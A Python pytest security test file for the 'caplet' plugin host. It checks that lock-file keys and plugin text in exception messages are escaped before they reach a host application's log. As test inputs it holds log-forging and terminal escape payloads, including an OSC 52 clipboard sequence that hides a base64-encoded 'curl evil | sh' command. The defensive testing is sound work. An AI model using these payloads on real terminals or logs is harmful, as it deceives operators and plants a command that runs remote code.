"""attack37: text someone else wrote, in the host application's own log (CWE-117).

caplet escapes what a plugin controls where it shows it (``ctx.log``, the CLI's log
handler, the decision screens), but a library host logs through the ``caplet`` logger to
handlers of its own (a file, journald, a plain ``StreamHandler``), and several records
carried foreign text as it was: a cloned project's ``caplet.lock`` (an unknown key) and
an application handler's exception, whose message held what a plugin sent. Each could
put terminal sequences into the operator's terminal and start a line of its own that reads
like caplet's. The records of caplet's loggers are escaped where they are made now
(:mod:`caplet._logs`), whatever handler reads them.
"""

from __future__ import annotations

import io
import logging
from collections.abc import Iterator
from pathlib import Path

import pytest

from caplet import AppCall
from caplet._sandbox._sandboxed import SandboxLauncher
from tests._host.ctxkit import enable, make_host, plugin
from tests.conftest import PluginFactory

#: An OSC title sequence, a newline and a line that reads like caplet's own.
FORGED = "\x1b]0;owned\x07\nCRITICAL caplet: plugin evil approved by the maintainers"


class PlainLog:
    """A host application's own handler: every ``caplet`` record, formatted plainly."""

    def __init__(self) -> None:
        self.stream = io.StringIO()
        self.handler = logging.StreamHandler(self.stream)
        self.handler.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s"))

    @property
    def text(self) -> str:
        return self.stream.getvalue()


@pytest.fixture
def plain_log() -> Iterator[PlainLog]:
    log = PlainLog()
    logger = logging.getLogger("caplet")
    logger.addHandler(log.handler)
    before = logger.level
    logger.setLevel(logging.WARNING)
    try:
        yield log
    finally:
        logger.removeHandler(log.handler)
        logger.setLevel(before)


def _lock_file(plugins_dir: Path, key: str) -> None:
    # A TOML basic string spells control characters as \uXXXX escapes.
    spelled = key.encode("unicode_escape").decode("ascii").replace("\\x", "\\u00")
    (plugins_dir.parent / "caplet.lock").write_text(
        f'version = 1\n"{spelled}" = 1\n[plugins]\n', encoding="utf-8"
    )


@pytest.mark.security
def test_a_cloned_projects_lock_file_cannot_forge_a_line_in_the_hosts_log(
    plugins_dir: Path, state_dir: Path, launcher: SandboxLauncher, plain_log: PlainLog
) -> None:
    _lock_file(plugins_dir, f"x{FORGED}")
    with make_host(plugins_dir, state_dir, launcher) as host:
        host.discover()
    assert "unknown top-level key(s)" in plain_log.text, plain_log.text
    assert "\x1b" not in plain_log.text
    assert "\x07" not in plain_log.text
    assert "\nCRITICAL" not in plain_log.text, "the lock file started a line of its own"
    assert "x\\x1b]0;owned\\x07\\x0aCRITICAL caplet: plugin evil" in plain_log.text


def test_near_miss_an_honest_lock_file_problem_is_logged_as_written(
    plugins_dir: Path, state_dir: Path, launcher: SandboxLauncher, plain_log: PlainLog
) -> None:
    _lock_file(plugins_dir, "extrá")
    with make_host(plugins_dir, state_dir, launcher) as host:
        host.discover()
    lines = plain_log.text.splitlines()
    assert len(lines) == 1, plain_log.text
    assert lines[0].startswith(f"WARNING caplet: lock file {plugins_dir.parent / 'caplet.lock'}")
    assert "unknown top-level key(s) extrá; expected version and plugins" in lines[0]


ASKER = """
from caplet.plugin import ContextError

def create_functions(config):
    def run(ctx, text):
        try:
            return ctx.app("notes.find", {"title": text})
        except ContextError as exc:
            return [type(exc).__name__, str(exc)]
    return {"main": {"run": run}}
"""


def _find(call: AppCall) -> object:
    # An application's handler quoting its input in its exception, as most do.
    raise KeyError(f"no note titled {call.args['title']}")


def _lookup(call: AppCall) -> object:
    raise LookupError(f"no note titled {call.args['title']}")


@pytest.mark.security
@pytest.mark.parametrize("handler", [_find, _lookup], ids=["repr", "str"])
def test_a_plugins_text_in_a_handlers_exception_cannot_act_in_the_hosts_log(
    plugins_dir: Path,
    state_dir: Path,
    launcher: SandboxLauncher,
    make_plugin: PluginFactory,
    plain_log: PlainLog,
    handler: object,
) -> None:
    plugin(make_plugin, "asker", ASKER, capabilities=("app:notes.find",))
    with make_host(plugins_dir, state_dir, launcher) as host:
        host.register_capability("app:notes.find", handler)  # type: ignore[arg-type]
        enable(host, "asker")
        error = host.call("asker", "main.run", f"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07{FORGED}")
    assert error[0] == "AppHandlerError"
    assert "application handler for app:notes.find failed" in plain_log.text
    assert "Traceback (most recent call last):" in plain_log.text, "the traceback is still logged"
    assert "no note titled" in plain_log.text
    assert "\x1b" not in plain_log.text
    assert "\x07" not in plain_log.text
    assert "\nCRITICAL" not in plain_log.text, "the plugin's text started a line of its own"


def _honest_chain() -> BaseException:
    try:
        try:
            index: dict[str, int] = {}
            index["missing"]
        except KeyError as exc:
            raise ValueError("the note's index is damaged") from exc
    except ValueError:
        try:
            raise OSError(28, "No space left on device")
        except OSError as error:
            error.add_note("while writing notes.db")
            return error
    raise AssertionError("unreachable")


def test_near_miss_an_honest_traceback_is_written_as_logging_writes_it() -> None:
    # Imported here: the attacks above run on main too, where the module is missing.
    from caplet._logs import escaped_traceback

    error = _honest_chain()
    expected = logging.Formatter().formatException((type(error), error, error.__traceback__))
    assert escaped_traceback(error) == expected
    assert "During handling of the above exception" in expected
    assert "The above exception was the direct cause" in expected


def test_every_module_logs_through_an_escaping_logger() -> None:
    """Every module of caplet makes its logger with ``caplet_logger``, so the filter is on
    ``caplet`` and ``caplet.store`` whichever module is imported first (the CLI's handler
    set-up only reads the logger; ``caplet.plugins`` escapes its lines itself)."""
    import caplet
    import caplet._trust._pg_pool  # the only modules of caplet.store, imported lazily

    package = Path(caplet.__file__).parent
    allowed = {"_cli/_app.py", "_cli/_safe.py", "_selftest/_bench_arena.py", "_logs.py"}
    raw = [
        str(path.relative_to(package))
        for path in sorted(package.rglob("*.py"))
        if 'getLogger("caplet' in path.read_text(encoding="utf-8")
        and str(path.relative_to(package)) not in allowed
    ]
    assert raw == []
    for name in ("caplet", "caplet.store"):
        logger = logging.getLogger(name)
        assert any(type(f).__name__ == "EscapedRecords" for f in logger.filters), name
